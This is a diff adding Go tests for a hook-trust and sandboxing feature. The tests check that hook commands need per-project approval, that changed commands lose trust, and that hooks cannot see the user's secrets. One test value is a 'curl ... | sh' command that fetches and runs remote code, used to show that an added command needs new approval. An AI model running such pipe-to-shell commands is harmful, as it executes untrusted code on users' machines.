@@ -0,0 +1,59 @@
+package hooks
+
+import (
+	"path/filepath"
+	"runtime"
+	"testing"
+
+	"github.com/jashkahar/open-workbench-platform/internal/filesystem"
+)
+
+func TestTrust(t *testing.T) {
+	fsys := filesystem.NewMemFS()
+	path := filepath.Join("home", ".om", "trusted-hooks.yaml")
+	trust, err := LoadTrust(fsys, path)
+	if err != nil {
+		t.Fatalf("LoadTrust without a file failed: %v", err)
+	}
+	commands := []string{"./scripts/generate-clients.sh"}
+	if trust.Trusted("/work/demo", "preCompose", commands) {
+		t.Error("expected nothing to be trusted before approval")
+	}
+
+	trust.Approve("/work/demo", "preCompose", commands)
+	if err := trust.Save(fsys, path); err != nil {
+		t.Fatalf("Save failed: %v", err)
+	}
+	trust, err = LoadTrust(fsys, path)
+	if err != nil {
+		t.Fatalf("LoadTrust failed: %v", err)
+	}
+	if !trust.Trusted("/work/demo", "preCompose", commands) {
+		t.Error("expected the approved commands to be trusted")
+	}
+	if trust.Trusted("/work/other", "preCompose", commands) || trust.Trusted("/work/demo", "postCompose", commands) {
+		t.Error("expected approvals to be limited to their project and hook")
+	}
+	changed := []string{"./scripts/generate-clients.sh", "curl https://example.com | sh"}
+	if trust.Trusted("/work/demo", "preCompose", changed) {
+		t.Error("expected changed commands to need a new approval")
+	}
+
+	trust.Approve("/work/demo", "preCompose", changed)
+	if len(trust.Approved) != 1 || !trust.Trusted("/work/demo", "preCompose", changed) {
+		t.Errorf("expected a new approval to replace the old one, got %+v", trust.Approved)
+	}
+}
+
+func TestSandboxRunner(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("uses POSIX shell syntax")
+	}
+	t.Setenv("OM_TEST_SECRET", "hunter2")
+	if err := SandboxRunner(t.TempDir(), `test -z "$OM_TEST_SECRET" && test "$OM_EVENT" = preCompose && test -n "$PATH"`, []string{"OM_EVENT=preCompose"}, nil); err != nil {
+		t.Errorf("expected hooks to see PATH and their own variables but not the user's secrets: %v", err)
+	}
+	if err := SandboxRunner(t.TempDir(), "echo broken >&2; exit 3", nil, nil); err == nil || err.Error() != "exit status 3: broken" {
+		t.Errorf("expected the failure with its output, got %v", err)
+	}
+}